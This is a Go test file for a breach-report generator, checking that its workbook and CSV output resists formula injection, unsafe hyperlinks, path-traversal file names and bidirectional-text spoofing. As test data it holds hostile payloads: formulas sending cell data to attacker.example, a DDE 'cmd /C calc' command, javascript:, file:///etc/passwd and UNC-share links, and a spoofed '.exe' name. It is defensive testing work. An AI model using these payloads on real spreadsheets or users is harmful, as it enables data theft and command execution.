package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaPayloads are cell texts that a spreadsheet would run as formulas if they were stored
// as formulas, or typed into a cell: OWASP's CSV-injection examples and DDE.
var formulaPayloads = []string{
	`=1+2`,
	`=HYPERLINK("https://attacker.example/?x="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`+1+2`,
	`-1+2`,
	`@SUM(1+2)`,
	`=WEBSERVICE("https://attacker.example/")`,
}

// linkPayloads are source URLs that must not become hyperlinks: they run script, open
// local files or shares, or are formulas.
var linkPayloads = []string{
	`javascript:alert(1)`,
	`file:///etc/passwd`,
	`\\attacker.example\share\x.xlsx`,
	`=HYPERLINK("https://attacker.example/")`,
	`data:text/html,<script>alert(1)</script>`,
	`https://example.com/ok`, // the one that is a link
}

// injectionCSV is an input whose every text column, and an extra column, holds a formula
// payload, and whose source URLs are link payloads.
func injectionCSV() string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write([]string{"incident_id", "organization", "service", "industry", "cause", "record_type", "certainty", "records", "disclosed", "source_url", "notes", "=extra()"})
	for i, p := range formulaPayloads {
		w.Write([]string{p, p + " org", p, p, p, "personal", "confirmed", "10", "2019-06-0" + string(rune('1'+i)), p, p, p})
	}
	for i, u := range linkPayloads {
		w.Write([]string{"link-" + string(rune('a'+i)), "Link Co.", "", "", "", "personal", "confirmed", "1", "2019-07-0" + string(rune('1'+i)), u, "", ""})
	}
	w.Flush()
	return b.String()
}

// TestWorkbookHasNoFormulas generates a workbook from data that is all formula payloads and
// checks, in the sheets' XML, that no cell holds a formula (<f>), and, read back, that every
// payload is there as text.
func TestWorkbookHasNoFormulas(t *testing.T) {
	out := t.TempDir()
	r := runCmd(t, injectionCSV(), "generate", "-i", "-", "-o", out)
	if r.status != 0 {
		t.Fatalf("exit %d\n%s%s", r.status, r.stdout, r.stderr)
	}
	n := len(formulaPayloads) + len(linkPayloads)
	checkAccounting(t, r.stdout, n, n, 0)
	path := filepath.Join(out, workbookName)

	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	formula := regexp.MustCompile(`<(\w+:)?f[ >/]`)
	target := regexp.MustCompile(`Target="([^"]*)"`)
	sheets, links := 0, 0
	for _, f := range zr.File {
		// A sheet's hyperlinks are its relationships' targets: only http(s) URLs.
		if strings.HasPrefix(f.Name, "xl/worksheets/_rels/") {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			x, _ := io.ReadAll(rc)
			rc.Close()
			for _, m := range target.FindAllSubmatch(x, -1) {
				if !bytes.HasPrefix(m[1], []byte("http://")) && !bytes.HasPrefix(m[1], []byte("https://")) && !bytes.HasPrefix(m[1], []byte("../")) {
					t.Errorf("%s links to %s", f.Name, m[1])
				}
				if bytes.Equal(m[1], []byte("https://example.com/ok")) {
					links++
				}
			}
			continue
		}
		if !strings.HasPrefix(f.Name, "xl/worksheets/") || !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		sheets++
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		x, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if m := formula.Find(x); m != nil {
			i := bytes.Index(x, m)
			t.Errorf("%s holds a formula: %s", f.Name, x[max(0, i-200):min(len(x), i+200)])
		}
	}
	if sheets == 0 {
		t.Fatal("the workbook has no worksheets")
	}
	if links == 0 {
		t.Error("the one http(s) source URL is no hyperlink: the check of link targets saw none")
	}

	// Every payload is in some cell as text, exactly as written.
	wb, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	found := map[string]bool{}
	for _, sheet := range wb.GetSheetList() {
		rows, err := wb.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				found[v] = true
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, _ := wb.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("sheet %q cell %s has formula %q", sheet, cell, f)
				}
			}
		}
	}
	for _, p := range append(append(formulaPayloads, "=extra()"), linkPayloads...) {
		if !found[p] {
			t.Errorf("no cell holds %q as text", p)
		}
	}
}

// TestWrittenCSVIsSafe checks the CSV the tool writes, sample and sample --synthetic, whose
// content is fixed by the program, and validate --format csv on input that is all formula
// payloads, the one CSV written from input data: no cell starts with a character that a
// spreadsheet reads as the start of a formula (=, +, -, @, tab, CR). The sample files need no
// neutralising; validate's table puts a quote before such values (inertCell).
func TestWrittenCSVIsSafe(t *testing.T) {
	outputs := map[string]string{}
	for _, args := range [][]string{{"sample"}, {"sample", "--lang", "ja"}, {"sample", "--template", "--lang", "ja"},
		{"sample", "--synthetic", "3000"}, {"sample", "--synthetic", "3000", "--seed", "7"}} {
		r := runCmd(t, "", args...)
		if r.status != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.status, r.stderr)
		}
		outputs[strings.Join(args, " ")] = r.stdout
	}
	// Payloads as ids, counts and dates, each of which validate reports with its value.
	var in strings.Builder
	cw := csv.NewWriter(&in)
	cw.Write([]string{"incident_id", "organization", "records", "disclosed"})
	for i, p := range formulaPayloads {
		cw.Write([]string{p, "Org " + string(rune('a'+i)), p, p})
	}
	cw.Flush()
	r := runCmd(t, in.String(), "validate", "-i", "-", "--format", "csv")
	if r.status != 0 || !strings.Contains(r.stdout, `'=HYPERLINK(`) {
		t.Fatalf("validate --format csv: exit %d, the table lacks the payloads:\n%s%s", r.status, r.stdout, r.stderr)
	}
	outputs["validate --format csv"] = r.stdout
	for name, text := range outputs {
		cr := csv.NewReader(strings.NewReader(text))
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(recs) < 2 {
			t.Fatalf("%s: %d records", name, len(recs))
		}
		for i, rec := range recs {
			for j, v := range rec {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("%s: record %d field %d starts a formula: %q", name, i+1, j+1, v)
				}
			}
		}
	}
}

// TestOutputNamesIgnoreData checks that generate writes its two fixed file names into the
// output directory whatever the data says: ids and names that look like paths do not reach
// the file system.
func TestOutputNamesIgnoreData(t *testing.T) {
	root := t.TempDir()
	out := filepath.Join(root, "out")
	ids := []string{"../escape", "/tmp/abs", `..\win`, "a/b", "con", ".breach-report.xlsx"}
	var b strings.Builder
	b.WriteString("incident_id,organization,records,disclosed\n")
	for i, id := range ids {
		b.WriteString(id + "," + id + " org,1,2019-06-0" + string(rune('1'+i)) + "\n")
	}
	_, absBefore := os.Stat("/tmp/abs")
	r := runCmd(t, b.String(), "generate", "-i", "-", "-o", out, "--compare", strings.Join(ids[:3], ","))
	if r.status != 0 {
		t.Fatalf("exit %d\n%s%s", r.status, r.stdout, r.stderr)
	}
	var written []string
	filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(root, p)
			written = append(written, rel)
		}
		return nil
	})
	var want []string
	for _, f := range expectedOutputs() {
		want = append(want, filepath.Join("out", f))
	}
	sort.Strings(written)
	want = lagsIfWritten(written, want, "out")
	if strings.Join(written, " ") != strings.Join(want, " ") {
		t.Errorf("files written: %q, want %q", written, want)
	}
	if _, absAfter := os.Stat("/tmp/abs"); os.IsNotExist(absBefore) && !os.IsNotExist(absAfter) {
		t.Error("generate created /tmp/abs")
	}
}

// TestNoBidiControlsInOutputs writes bidirectional controls into each text column of a
// generated list and checks that neither the workbook's cells nor the dashboard hold one (as
// a character or as a JSON escape), that the text without them is there, and that each
// cell's warning is printed.
func TestNoBidiControlsInOutputs(t *testing.T) {
	// A control as a character, or in the dashboard as a JSON escape (not one escaped again,
	// as the warning shows it: \\u202e in JSON is the inert text \u202e).
	bidi := regexp.MustCompile(`[\x{202a}-\x{202e}\x{2066}-\x{2069}]`)
	jsonBidi := regexp.MustCompile(`(^|[^\\])\\u(?i:202[a-e]|206[6-9])`)
	for _, tc := range []struct {
		col, value, clean string
	}{
		{"organization", "Evil\u202egnp.exe Co.", "Evilgnp.exe Co."},
		{"service", "\u2067shop\u2069", "shop"},
		{"cause", "phi\u202ashing\u202c", "phishing"},
		{"notes", "see \u202dreport\u202c", "see report"},
		{"ticket", "T\u2066-1\u2069", "T-1"},
	} {
		t.Run(tc.col, func(t *testing.T) {
			header := []string{"incident_id", "organization", "service", "cause", "records", "disclosed", "notes", "ticket"}
			row := map[string]string{"incident_id": "X1", "organization": "Example Co.", "service": "web", "cause": "phishing",
				"records": "10", "disclosed": "2019-06-04", "notes": "none", "ticket": "T0"}
			row[tc.col] = tc.value
			var b bytes.Buffer
			w := csv.NewWriter(&b)
			w.Write(header)
			rec := make([]string, len(header))
			for i, h := range header {
				rec[i] = row[h]
			}
			w.Write(rec)
			w.Flush()
			out := t.TempDir()
			r := runCmd(t, b.String(), "generate", "-i", "-", "-o", out, "--lang", "en")
			if r.status != 0 {
				t.Fatalf("exit %d\n%s%s", r.status, r.stdout, r.stderr)
			}
			if strings.Count(r.stderr, "bidirectional control characters") != 1 || !strings.Contains(r.stderr, "line 2, column "+tc.col) {
				t.Errorf("stderr does not warn of the cell:\n%s", r.stderr)
			}
			checkOutputsLack(t, out, tc.clean, bidi, jsonBidi)
		})
	}
}
